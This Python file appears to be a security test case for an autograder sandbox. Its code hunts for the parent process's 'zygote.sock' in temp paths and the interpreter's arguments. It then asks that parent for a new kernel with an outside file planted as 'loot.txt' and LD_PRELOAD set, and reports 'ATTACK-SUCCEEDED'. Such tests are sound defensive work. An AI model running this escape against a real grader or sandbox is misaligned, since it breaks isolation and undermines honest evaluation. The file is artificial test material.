"""Finds the warm parent's socket in the interpreter's original arguments and orders a kernel of its own there, with a file from outside in its folder.

base: unsolved
max-score: 0
canary: outside-file, leak
"""
# %% q1
import glob
import json
import os
import socket
import sys

addresses = set(glob.glob("/tmp/autograder-*/zygote.sock") + glob.glob("/var/tmp/*/zygote.sock") + glob.glob(f"{os.getcwd()}/../../../zygote.sock"))
for argument in [*sys.argv, *sys.orig_argv]:
    try:
        addresses.add(json.loads(argument)["socket"])
    except (ValueError, KeyError, TypeError):
        pass
for address in addresses:
    try:
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(3)
        line.connect(address)
    except OSError:
        continue
    said = f"connected to {address}"
    try:
        channels = [socket.socket(socket.AF_UNIX) for _ in range(5)]
        for number, channel in enumerate(channels):
            channel.bind(f"channel-{os.getpid()}-{number}")
            channel.listen(1)
        wish = {"connection": {"ip": "x", "key": "", **{f"{name}_port": number for number, name in enumerate(("shell", "iopub", "stdin", "hb", "control"), 1)}},
                "files": [["loot.txt", "@OUTSIDE_FILE@"]], "limits": {}, "seed": 0, "env": {"LD_PRELOAD": "x"}}
        socket.send_fds(line, [json.dumps(wish).encode() + b"\n"], [channel.fileno() for channel in channels])
        said += f", which answered {line.recv(1000)!r}"
    except OSError:
        pass
    raise RuntimeError("-".join(["ATTACK", "SUCCEEDED"]) + f": {said}")
